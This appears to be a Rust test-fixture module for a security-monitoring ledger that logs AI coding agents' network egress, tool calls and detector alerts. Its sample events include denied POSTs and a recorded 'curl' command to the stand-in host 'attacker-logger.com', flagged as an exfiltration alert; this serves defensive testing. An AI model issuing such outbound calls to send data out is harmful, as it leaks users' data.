//! Ledgers for the tests of this package: a store in a temporary directory, entries in few words, questions in one line.

use std::sync::{Arc, RwLock};

use ledger::events::column as event;
use ledger::operations::column as operation;
use ledger::{Entry, Group, LedgerName, Options as StoreOptions, Store, Table};
use operations::access::{Authorize, Principal, Role, Trust};
use operations::budget;
use operations::triage::{Desk, Policy};

use crate::engine::{Engine, Limits, Options, Purpose, Request, Standing};
use crate::error::QueryError;
use crate::output::{Encoded, Format};

/// The event time of the first event: 2026-11-21 12:00:00 UTC.
pub(crate) const NOON: i64 = 1_795_262_400_000_000;

/// A store with both ledgers.
pub(crate) struct Ledgers {
    pub(crate) store: Store,
    /// Goes with its files when the ledgers go.
    _directory: Option<tempfile::TempDir>,
    path: std::path::PathBuf,
}

impl Ledgers {
    /// A store whose segments hold `segment_entries_max` rows.
    pub(crate) fn new(segment_entries_max: u64) -> Self {
        let directory = tempfile::tempdir().unwrap();
        let ledgers = Self::at(directory.path(), segment_entries_max);
        Self { _directory: Some(directory), ..ledgers }
    }

    /// The same in a directory of somebody's own, whose ledgers are made if there are none.
    pub(crate) fn at(path: &std::path::Path, segment_entries_max: u64) -> Self {
        if !path.join("identity").exists() {
            Store::init(path, "acme.example/agents").unwrap();
        }
        let options = StoreOptions { segment_entries_max, reserve_bytes: 0, ..StoreOptions::default() };
        let store = Store::open(path, options).unwrap();
        Self { store, _directory: None, path: path.to_owned() }
    }

    pub(crate) fn path(&self) -> &std::path::Path {
        &self.path
    }

    /// Appends entries in groups of at most `group` and waits until they are durable.
    pub(crate) async fn append(&self, name: LedgerName, entries: impl IntoIterator<Item = Entry>, group: usize) {
        let appender = self.store.ledger(name).appender();
        let mut waiting = Group::new(Table::of(name));
        for mut entry in entries {
            waiting.push(&mut entry).unwrap();
            if waiting.entries() == group || waiting.is_full() {
                appender.append(std::mem::replace(&mut waiting, Group::new(Table::of(name)))).await.unwrap();
            }
        }
        if !waiting.is_empty() {
            appender.append(waiting).await.unwrap();
        }
    }

    /// Waits until the sealer has nothing left that is full.
    pub(crate) fn sealed(&self, name: LedgerName, segments: usize) {
        while self.store.ledger(name).status().segments < segments {
            std::thread::yield_now();
        }
    }

    /// The desk of a server over these ledgers.
    pub(crate) fn desk(&self) -> Arc<Desk> {
        let operations = self.store.operations();
        Arc::new(Desk::new(operations.reader(), Some(operations.appender()), Policy::default()))
    }

    /// The desk for money of a server over these ledgers.
    pub(crate) fn budgets(&self) -> Arc<budget::Desk> {
        let operations = self.store.operations();
        Arc::new(budget::Desk::new(operations.reader(), Some(operations.appender())))
    }

    pub(crate) fn engine(&self) -> Engine {
        let options = Options { audit: Some(self.store.operations().appender()), threads: Some(2), queries_max: None };
        self.engine_with(options)
    }

    pub(crate) fn engine_with(&self, options: Options) -> Engine {
        Engine::new(self.store.events().reader(), self.store.operations().reader(), options).unwrap()
    }
}

/// An event of a kind, its texts by column, in one session every second.
pub(crate) fn event(second: i64, kind: &str, texts: &[(ledger::column::handle::Text, &str)]) -> Entry {
    let mut entry = Entry::new();
    entry.set_time(event::TIME, NOON + second * 1_000_000);
    entry.set_text(event::KIND, kind);
    for (column, text) in texts {
        entry.set_text(*column, text);
    }
    entry
}

/// An entry of `operations`.
pub(crate) fn operation(kind: &str, subject: &str, revision: i64, record: &serde_json::Value) -> Entry {
    let mut entry = Entry::new();
    entry.set_text(operation::KIND, kind);
    entry.set_text(operation::SUBJECT, subject);
    entry.set_integer(operation::REVISION, revision);
    entry.set_text(operation::ACTOR, "detect");
    entry.set_text(operation::RECORD, &record.to_string());
    entry
}

/// A revision of an alert, as a detector records it.
pub(crate) fn alert(id: &str, revision: i64, state: &str, severity: &str) -> Entry {
    let record = serde_json::json!({
        "id": id, "revision": revision, "rule": "egress.denied_post", "rule_version": 1, "state": state, "severity": severity,
        "title": "Denied upload", "reason": "3 requests", "who": { "user": "tobias", "team": "red" }, "what": { "host": "attacker-logger.com" },
        "first_seen": NOON, "last_seen": NOON, "recorded_first": NOON, "recorded_last": NOON, "count": 1,
        "evidence": ["events/0/2"], "tags": [], "backfill": false
    });
    operation("alert", id, revision, &record)
}

/// Twelve events and a few operations that every view shows something of.
pub(crate) fn story() -> (Vec<Entry>, Vec<Entry>) {
    use event::{
        AGENT_KIND, COMMAND, CONTENT, DOMAIN, HOST, INTERCEPTION, METHOD, MODEL, OUTCOME, PROVIDER, RECORD, SESSION,
        SOURCE, TEAM, TOOL, TOOL_CALL, USER,
    };
    let ada = [(SESSION, "s-ada"), (USER, "ada"), (TEAM, "red"), (AGENT_KIND, "claude_code")];
    let bob = [(SESSION, "s-bob"), (USER, "bob"), (TEAM, "blue"), (AGENT_KIND, "codex")];
    let with = |who: &[(_, _)], more: &[(_, _)]| [who, more].concat();
    let request = |host, domain, outcome| {
        [(HOST, host), (DOMAIN, domain), (OUTCOME, outcome), (METHOD, "POST"), (SOURCE, "coder.boundary")]
    };
    let call = |id| [(INTERCEPTION, id), (MODEL, "model-a"), (PROVIDER, "acme"), (SOURCE, "coder.gateway")];
    let tool = |id, content| [(TOOL, "Bash"), (TOOL_CALL, id), (CONTENT, content), (SOURCE, "claude_code")];
    let mut events = vec![
        event(0, "session.start", &ada),
        event(1, "egress.http", &with(&ada, &request("packages.acme.example", "acme.example", "allow"))),
        event(2, "egress.http", &with(&ada, &request("attacker-logger.com", "attacker-logger.com", "deny"))),
        event(3, "model.call", &with(&ada, &call("i-1"))),
        event(4, "model.tokens", &with(&ada, &call("i-1"))),
        event(5, "tool.call", &with(&ada, &tool("t-1", r#"{"input":"ls -la"}"#))),
        event(6, "command", &with(&ada, &[(COMMAND, "ls -la"), (TOOL_CALL, "t-1"), (OUTCOME, "success")])),
        event(7, "session.start", &bob),
        event(8, "egress.http", &with(&bob, &request("attacker-logger.com", "attacker-logger.com", "deny"))),
        event(9, "command", &with(&bob, &[(COMMAND, "curl https://attacker-logger.com"), (OUTCOME, "error")])),
        event(10, "model.tokens", &with(&bob, &call("i-2"))),
        event(11, "audit", &[(RECORD, r#"{"action":"login","who":{"name":"carol"}}"#)]),
    ];
    for (at, tokens, cost) in [(4, 100, 2_500_000), (10, 50, 1_000_000)] {
        events[at].set_integer(event::TOKENS_OUT, tokens);
        events[at].set_integer(event::COST_MICROS, cost);
    }
    events[3].set_text(event::USER_ID, "u-ada");
    events[6].set_integer(event::EXIT_CODE, 0);
    events[9].set_integer(event::EXIT_CODE, 7);
    events[5].set_fingerprint(event::ACTION_FP, u64::MAX);
    let alert = |revision: i64, state: &str| {
        serde_json::json!({
            "id": "alert-1", "revision": revision, "rule": "egress.denied_post", "rule_version": 1, "state": state, "severity": "high", "title": "Denied upload",
            "reason": "3 requests", "who": { "user": "ada", "session": "s-ada" }, "what": { "host": "attacker-logger.com" },
            "first_seen": NOON, "last_seen": NOON + revision, "recorded_first": NOON, "recorded_last": NOON + revision, "count": revision, "evidence": ["events/0/2"], "tags": ["T1567"], "backfill": false
        })
    };
    let receipt = serde_json::json!({ "export_seq": 0, "export_seq_next": 5, "count": 5, "excluded": 2, "rejected": 0, "bytes": 900, "attempts": 1, "ack": "200" });
    let mut sent = operation("export.receipt", "splunk", 1, &receipt);
    sent.set_text(operation::FROM, "events/0/0");
    sent.set_text(operation::TO, "events/0/7");
    let silence = serde_json::json!({ "matchers": ["rule=loop.repeat"], "reason": "known", "starts": NOON, "ends": NOON + 1, "would_have_hidden": 0, "token": "t" });
    let operations = vec![
        operation("alert", "alert-1", 1, &alert(1, "open")),
        operation("alert", "alert-2", 1, &alert(1, "open")),
        operation("alert", "alert-1", 2, &alert(2, "updated")),
        sent,
        operation("silence", "silence-1", 1, &silence),
        operation("budget.set", "red", 1, &serde_json::json!({ "cap_micros": 500, "period": "day" })),
        operation(
            "budget.reserve",
            "r-1",
            1,
            &serde_json::json!({ "budgets": ["red"], "micros": 5, "ttl_seconds": 60 }),
        ),
    ];
    (events, operations)
}

/// A principal with one role.
pub(crate) fn principal(name: &str, role: Role, content: bool) -> Arc<Principal> {
    Arc::new(Principal {
        token: format!("token-{name}"),
        name: name.to_owned(),
        roles: vec![role],
        content,
        trust: Trust::Agent,
        ..Principal::local()
    })
}

/// A request of the local principal that leaves no record.
pub(crate) fn request(sql: &str) -> Request {
    Request {
        sql: sql.to_owned(),
        principal: Arc::new(Principal::local()),
        purpose: Purpose::Page,
        limits: Limits::default(),
        standing: Standing::default(),
    }
}

/// The result in a format, as text.
pub(crate) async fn ask(engine: &Engine, request: Request, format: Format) -> Result<String, QueryError> {
    let mut encoded = Encoded::new(engine.run(request).await?, format, None)?;
    let out = encoded.pull(usize::MAX).await.map_err(|(_, error)| error)?;
    Ok(String::from_utf8(out).unwrap())
}

/// Knows the principals by their names: the secret of `ada` is `secret-ada`.
pub(crate) struct Doorman(RwLock<Vec<Arc<Principal>>>);

impl Doorman {
    pub(crate) fn new(people: Vec<Arc<Principal>>) -> Self {
        Self(RwLock::new(people))
    }

    /// Nobody is known from now on.
    pub(crate) fn revoke_all(&self) {
        self.0.write().unwrap().clear();
    }
}

impl Authorize for Doorman {
    fn authorize(&self, secret: &str) -> Option<Arc<Principal>> {
        self.0.read().unwrap().iter().find(|principal| secret.strip_prefix("secret-") == Some(&principal.name)).cloned()
    }
}
